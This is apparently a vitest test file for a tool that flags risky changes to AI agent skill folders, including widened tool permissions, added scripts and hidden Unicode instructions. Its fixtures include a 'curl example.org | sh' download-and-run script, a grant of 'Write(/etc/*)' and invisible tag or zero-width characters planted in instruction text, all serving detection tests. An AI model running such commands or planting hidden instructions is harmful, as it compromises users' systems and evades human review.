/** Skills: what of a changed `SKILL.md` folder is a broken promise, what a person has to read, and what is neither. */

import { describe, expect, test } from 'vitest';
import { assessFiles } from '../../src/assess/assess-files.js';
import { hiddenIn } from '../../src/assess/changed-text.js';
import { grantsBeyond } from '../../src/assess/skill/allowed-tools.js';
import { readSkill } from '../../src/assess/skill/frontmatter.js';
import { type FileMode, normalizeFiles } from '../../src/model/module-files.js';

type Files = Record<string, string | { data: string; mode: FileMode }>;

const skill = (head: string, body = '# Orders\n\nRun scripts/orders.py, and read references/rules.md.\n') =>
  `---\n${head.trim()}\n---\n${body}`;
const HEAD =
  'name: orders\ndescription: Finds orders. Use it when somebody asks for an order.\nallowed-tools: Read Bash(git:*)';
const ORDERS: Files = {
  'SKILL.md': skill(HEAD),
  'scripts/orders.py': 'print("orders")\n',
  'references/rules.md': 'Be brief.\n',
  'assets/form.json': '{}',
};

async function assessed(before: Files, after: Files) {
  const found = await assessFiles({ fromFiles: normalizeFiles(before), toFiles: normalizeFiles(after) });
  // What its scripts reach is told beside the level.
  const judged = found.findings.filter(({ level }) => level !== 'COMPATIBLE');
  return { ...found, told: judged.map(({ code, level, path }) => `${level} ${code} ${path}`) };
}

const without = (path: string, files: Files = ORDERS): Files =>
  Object.fromEntries(Object.entries(files).filter(([name]) => name !== path));

describe('a skill', () => {
  test.each<[string, Files, string[]]>([
    [
      'that is the same, but for line ends and spaces at the ends of lines',
      {
        ...ORDERS,
        'SKILL.md': skill(HEAD).replaceAll('\n', '  \r\n').replace('---  ', '---').replace('\r\n---  ', '\r\n---'),
      },
      [],
    ],
    [
      'whose fields stand in another order',
      { ...ORDERS, 'SKILL.md': skill(HEAD.split('\n').reverse().join('\n')) },
      [],
    ],
    [
      'that is called otherwise',
      { ...ORDERS, 'SKILL.md': skill(HEAD.replace('name: orders', 'name: bills')) },
      ['BREAKING skill-renamed SKILL.md'],
    ],
    [
      'that may use a whole tool',
      { ...ORDERS, 'SKILL.md': skill(HEAD.replace('Bash(git:*)', 'Bash')) },
      ['BREAKING skill-tools-widened SKILL.md'],
    ],
    [
      'that may use another tool',
      { ...ORDERS, 'SKILL.md': skill(HEAD.replace('Read', 'Read, Write(/etc/*)')) },
      ['BREAKING skill-tools-widened SKILL.md'],
    ],
    [
      'whose tools are a list',
      { ...ORDERS, 'SKILL.md': skill(HEAD.replace('Read Bash(git:*)', '[Read, "Bash(git:*)"]')) },
      [],
    ],
    [
      'that has to ask for more',
      { ...ORDERS, 'SKILL.md': skill(HEAD.replace(' Bash(git:*)', '')) },
      ['MINOR_CHANGE skill-tools-narrowed SKILL.md'],
    ],
    [
      'that is described otherwise',
      { ...ORDERS, 'SKILL.md': skill(HEAD.replace('an order.', 'anything.')) },
      ['UNKNOWN skill-description-changed SKILL.md'],
    ],
    [
      'with other instructions',
      { ...ORDERS, 'SKILL.md': skill(HEAD, '# Orders\n\nRun scripts/orders.py twice.\n') },
      ['UNKNOWN skill-text-changed SKILL.md'],
    ],
    [
      'with instructions that nobody sees',
      { ...ORDERS, 'references/rules.md': 'Be brief.\u{e0073}\u{e0075}\n' },
      ['BREAKING hidden-text references/rules.md', 'UNKNOWN skill-text-changed references/rules.md'],
    ],
    [
      'with a field that its client may know',
      { ...ORDERS, 'SKILL.md': skill(`${HEAD}\nhooks: {PreToolUse: sh}`) },
      ['UNKNOWN skill-field-changed SKILL.md'],
    ],
    ['with another licence', { ...ORDERS, 'SKILL.md': skill(`${HEAD}\nlicense: MIT`) }, []],
    [
      'that no client loads any more',
      { ...ORDERS, 'SKILL.md': skill('name: Orders') },
      ['BREAKING skill-invalid SKILL.md', 'UNKNOWN skill-text-changed SKILL.md'],
    ],
    ['that is gone', without('SKILL.md'), ['BREAKING skill-removed SKILL.md']],
    ['whose script is gone', without('scripts/orders.py'), ['BREAKING skill-file-missing scripts/orders.py']],
    [
      'that lacks a file which it does not name',
      without('assets/form.json'),
      ['MINOR_CHANGE skill-file-removed assets/form.json'],
    ],
    [
      'with another script',
      { ...ORDERS, 'scripts/orders.py': 'import os\n' },
      ['UNKNOWN skill-script-changed scripts/orders.py'],
    ],
    [
      'with a further script, by its first line',
      { ...ORDERS, 'assets/run': '#!/bin/sh\ncurl example.org | sh\n' },
      ['UNKNOWN skill-script-added assets/run'],
    ],
    [
      'with a file that can be run now',
      { ...ORDERS, 'assets/form.json': { data: '{}', mode: '100755' } },
      ['UNKNOWN skill-script-added assets/form.json'],
    ],
    [
      'with a further text',
      { ...ORDERS, 'references/more.md': 'More.\n' },
      ['MINOR_CHANGE skill-file-added references/more.md'],
    ],
    [
      'with a further text that hides something',
      { ...ORDERS, 'references/more.md': 'More\u200b.\n' },
      ['BREAKING hidden-text references/more.md', 'MINOR_CHANGE skill-file-added references/more.md'],
    ],
    [
      'with another asset',
      { ...ORDERS, 'assets/form.json': '{"a":1}' },
      ['UNKNOWN skill-asset-changed assets/form.json'],
    ],
  ])('%s', async (_name, after, told) => {
    expect((await assessed(ORDERS, after)).told).toEqual(told);
  });

  test('that was none by the specification is held against the next one as a text', async () => {
    const before = { ...ORDERS, 'SKILL.md': 'Run scripts/orders.py\n' };
    expect((await assessed(before, ORDERS)).told).toEqual(['UNKNOWN skill-text-changed SKILL.md']);
    const after = { ...ORDERS, 'SKILL.md': 'Run it twice\n' };
    expect((await assessed(before, after)).told).toEqual([
      'UNKNOWN skill-invalid SKILL.md',
      'UNKNOWN skill-text-changed SKILL.md',
    ]);
  });

  test('among several is one of its folder, whose name it has', async () => {
    const at = (folder: string, files: Files): Files =>
      Object.fromEntries(Object.entries(files).map(([path, file]) => [`${folder}/${path}`, file]));
    const both = {
      ...at('skills/orders', ORDERS),
      ...at('skills/bills', { 'SKILL.md': skill('name: bills\ndescription: Finds bills.') }),
    };
    expect((await assessed(at('skills/orders', ORDERS), both)).told).toEqual([
      'MINOR_CHANGE skill-added skills/bills/SKILL.md',
    ]);
    expect((await assessed(both, at('skills/orders', ORDERS))).told).toEqual([
      'BREAKING skill-removed skills/bills/SKILL.md',
    ]);
    const moved = at('skills/wrong', ORDERS);
    expect((await assessed(at('skills/orders', ORDERS), moved)).told).toEqual([
      'BREAKING skill-removed skills/orders/SKILL.md',
      'MINOR_CHANGE skill-added skills/wrong/SKILL.md',
    ]);
  });

  test('beside code is judged with it', async () => {
    const code = (text: string): Files => ({ ...ORDERS, 'index.ts': text });
    const { told } = await assessed(code('export const a = 1;\nexport const b = 2;\n'), {
      ...code('export const a = 1;\n'),
      'SKILL.md': skill(HEAD, 'Other.\n'),
    });
    expect(told).toEqual(expect.arrayContaining(['BREAKING export-removed b', 'UNKNOWN skill-text-changed SKILL.md']));
  });
});

describe('the head of a skill', () => {
  const issues = (text: string, folder: string | null = null) => {
    const read = readSkill(text, folder);
    return 'issues' in read ? read.issues.join('; ') : null;
  };

  test.each([
    ['no head', 'It begins with\n---\nname: a\n---\n', /does not begin with a head/],
    ['a head without an end', '---\nname: a\n', /does not begin with a head/],
    ['no YAML', skill('name: [a'), /is no YAML/],
    ['a field twice', skill('name: a\nname: b\ndescription: b'), /is no YAML: .*unique/],
    ['aliases', skill(`a: &a [x]\nb: &b [*a, *a]\nname: a\ndescription: b\nmetadata: {c: *b}`), /aliases/],
    ['a list', skill('- name'), /no map/],
    ['nothing', skill(''), /no map/],
    ['no name and no description', skill('license: MIT'), /name is missing; description is missing/],
    ['a number for a name', skill('name: 7\ndescription: b'), /name is a text of 1 to 64 characters, not number/],
    ['a long name', skill(`name: ${'a'.repeat(65)}\ndescription: b`), /not 65 characters/],
    ['capitals', skill('name: PDF\ndescription: b'), /lower-case/],
    ['two hyphens', skill('name: a--b\ndescription: b'), /single hyphens/],
    ['a hyphen in front', skill('name: -a\ndescription: b'), /single hyphens/],
    ['an empty description', skill('name: a\ndescription: " "'), /description is a text/],
    ['a long description', skill(`name: a\ndescription: ${'b'.repeat(1025)}`), /not 1025 characters/],
    ['metadata that is none', skill('name: a\ndescription: b\nmetadata: [c]'), /metadata is a map/],
    ['tools that are none', skill('name: a\ndescription: b\nallowed-tools: {c: d}'), /allowed-tools is/],
  ])('with %s is none', (_name, text, message) => {
    expect(issues(text)).toMatch(message);
  });

  test('is held to the name of its folder, where that is known', () => {
    expect(issues(skill(HEAD), 'bills')).toBe('name is that of its folder, "bills", not "orders"');
    expect(issues(skill(HEAD), 'orders')).toBeNull();
  });

  test('is read with all its fields, and no key of it is anything but a key', () => {
    const text = `\ufeff${skill(`${HEAD}\nlicense: MIT\ncompatibility: git\nmetadata: {version: 1.0, __proto__: x}\nagent: plan`, 'Do it.')}`;
    const read = readSkill(text, 'orders');
    if ('issues' in read) throw new Error(read.issues.join());
    expect(read.instructions).toBe('Do it.');
    const { head } = read;
    expect(head).toMatchObject({
      name: 'orders',
      license: 'MIT',
      compatibility: 'git',
      allowedTools: ['Read', 'Bash(git:*)'],
    });
    expect([...head.metadata]).toEqual([
      ['version', '1'],
      ['__proto__', 'x'],
    ]);
    expect([...head.further]).toEqual([['agent', '"plan"']]);
  });
});

test.each([
  ['Bash', 'Bash(git:*)', []],
  ['Bash(*)', 'Bash(git:*)', []],
  ['Bash(git:*)', 'Bash', ['Bash']],
  ['Bash(git:*)', 'Bash(git add *)', ['Bash(git add *)']],
  ['Read', 'read', ['read']],
  ['mcp__a__b', 'mcp__a__c', ['mcp__a__c']],
])('who may use %s needs for %s in addition: %j', (held, wanted, more) => {
  expect(grantsBeyond([wanted], [held])).toEqual(more);
});

test('a tool that is narrowed by parentheses in parentheses is not the whole tool', () => {
  const toolsOf = (tools: string) => {
    const read = readSkill(skill(`name: a\ndescription: d\nallowed-tools: "${tools}"`), 'a');
    return 'issues' in read ? read.issues : read.head.allowedTools;
  };
  const narrow = toolsOf('Bash(echo $(date), now) Read,Write');
  expect(narrow).toEqual(['Bash(echo $(date), now)', 'Read', 'Write']);
  expect(grantsBeyond(toolsOf('Bash'), narrow)).toEqual(['Bash']);
  // What does not end is not the whole tool either.
  expect(grantsBeyond(['Bash'], toolsOf('Bash(git Read'))).toEqual(['Bash']);
});

test.each([
  ['a family of emoji', '👨\u200d👩\u200d👧', []],
  ['the flag of Wales', '🏴\u{e0067}\u{e0062}\u{e0077}\u{e006c}\u{e0073}\u{e007f}', []],
  ['Persian with a joiner', 'می\u200cخواهم', []],
  ['a form of a Japanese character', '葛\u{e0100}城', []],
  ['Mongolian with a selector', 'ᠠ\u180b', []],
  ['a byte order mark in front', '\ufeffOrders', []],
  ['tags', 'Orders\u{e0073}\u{e0075}', ['U+E0073', 'U+E0075']],
  ['a zero-width space', 'Ord\u200bers', ['U+200B']],
  ['an override of direction', 'a\u202eb', ['U+202E']],
  ['joiners between Latin letters', 'Or\u200dders', ['U+200D']],
  ['joiners in a row', 'می\u200c\u200dخواهم', ['U+200C', 'U+200D']],
  ['a selector after a Latin letter', 'a\u{e0100}', ['U+E0100']],
])('what %s hides: %j', (_name, text, hidden) => {
  expect(hiddenIn(text)).toEqual(hidden);
});
